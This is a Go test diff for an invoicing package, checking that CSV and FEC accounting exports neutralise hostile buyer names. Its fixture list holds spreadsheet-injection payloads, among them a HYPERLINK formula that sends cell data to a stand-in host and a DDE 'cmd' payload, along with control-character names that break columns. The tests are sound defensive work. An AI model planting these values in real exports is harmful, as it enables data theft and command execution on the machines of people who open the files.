@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/relais-tierslieux/relais/billing"
 )
@@ -245,5 +246,117 @@ func TestFECOfAnExemptEntity(t *testing.T) {
 	// No VAT, so no 44571 line: 411 against 706, then the settlement.
 	if len(lines) != 1+2+2 || strings.Contains(buf.String(), "\t44571\t") {
 		t.Fatalf("exempt FEC:\n%s", buf.String())
+	}
+}
+
+// hostileNames are buyer names that try to run a formula in the spreadsheet
+// of whoever opens an export, or to break the FEC's columns and lines.
+var hostileNames = []string{
+	`=HYPERLINK("http://x.example/?"&A1,"x")`,
+	`+cmd|' /C calc'!A0`,
+	`@SUM(1+1)`,
+	`-2+3`,
+	"＝1+1",
+	"Jean\tDupont",
+	"Jeanne\r\nDupré",
+	"Zoé\vRoux\u2028et\u0085fils",
+}
+
+// issueHostile issues, for entity A in March, one paid day pass for each of
+// hostileNames, and a credit note for the first.
+func issueHostile(t *testing.T, e *invEnv) {
+	t.Helper()
+	var first *billing.Invoice
+	for _, name := range hostileNames {
+		in := e.dayPass(e.site, 1)
+		in.Buyer.Name = name
+		inv := e.issue(t, in)
+		if first == nil {
+			first = inv
+		}
+	}
+	if _, err := e.iv.IssueCreditNote(context.Background(), e.db, first.ID, billing.CreditNoteInput{Reason: "Annulation",
+		Refund: &billing.InvoicePayment{PaidAt: e.clock.Now(), Method: billing.MethodCard}}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	e := newInvEnv(t)
+	issueHostile(t, e)
+	var buf bytes.Buffer
+	if err := e.iv.CSV(context.Background(), &buf, billing.InvoiceFilter{From: marchPeriod.from, To: marchPeriod.to}); err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff"))))
+	r.Comma = ';'
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 1+len(hostileNames)+1 {
+		t.Fatalf("%d rows, want %d documents", len(rows)-1, len(hostileNames)+1)
+	}
+	client, total, kind := 6, 15, 1
+	if rows[0][client] != "Client" || rows[0][total] != "Total TTC" {
+		t.Fatalf("header %q", rows[0])
+	}
+	for i, name := range hostileNames {
+		want := strings.ReplaceAll(name, "\r\n", "\n") // as encoding/csv reads a quoted line break
+		if strings.ContainsAny(name[:1], "=+-@") || strings.HasPrefix(name, "＝") {
+			want = "'" + name
+		}
+		if got := rows[1+i][client]; got != want {
+			t.Errorf("buyer %q written as %q, want %q", name, got, want)
+		}
+		if got := rows[1+i][total]; got != "25,00" {
+			t.Errorf("total %q, want 25,00", got)
+		}
+	}
+	credit := rows[len(rows)-1]
+	if credit[kind] != "Avoir" || credit[client] != "'"+hostileNames[0] || credit[total] != "-25,00" {
+		t.Errorf("credit note row %q: the buyer quoted, the amount still the number -25,00", credit)
+	}
+}
+
+func TestFECKeepsHostileNamesInTheirColumns(t *testing.T) {
+	e := newInvEnv(t)
+	issueHostile(t, e)
+	var buf bytes.Buffer
+	if err := e.iv.FEC(context.Background(), &buf, entityA, marchPeriod.from, marchPeriod.to); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
+	// Each document: 411, 706 and 44571 in VE, then 512 and 411 in BQ.
+	if want := 1 + 5*(len(hostileNames)+1); len(lines) != want {
+		t.Fatalf("%d lines, want %d:\n%s", len(lines), want, buf.String())
+	}
+	auxLibs := map[string]bool{}
+	for _, line := range lines {
+		f := strings.Split(line, "\t")
+		if len(f) != 18 {
+			t.Fatalf("%d fields in %q", len(f), line)
+		}
+		for _, field := range f {
+			if strings.ContainsFunc(field, func(r rune) bool { return unicode.IsControl(r) || r == '\u2028' || r == '\u2029' }) {
+				t.Fatalf("a control character or line separator in field %q of %q", field, line)
+			}
+		}
+		if f[4] == billing.AccountCustomers {
+			auxLibs[f[7]] = true
+			if !strings.HasSuffix(f[10], f[7]) && !strings.HasPrefix(f[10], "Règlement") && !strings.HasPrefix(f[10], "Remboursement") {
+				t.Errorf("EcritureLib %q does not end with the customer %q", f[10], f[7])
+			}
+		}
+	}
+	// Formula characters stay: the FEC is the books, read as text by
+	// accounting software; only what would break a line or a column goes.
+	for _, want := range []string{
+		`=HYPERLINK("http://x.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, "＝1+1",
+		"Jean Dupont", "Jeanne  Dupré", "Zoé Roux et fils",
+	} {
+		if !auxLibs[want] {
+			t.Errorf("CompAuxLib %q missing; have %v", want, auxLibs)
+		}
 	}
 }
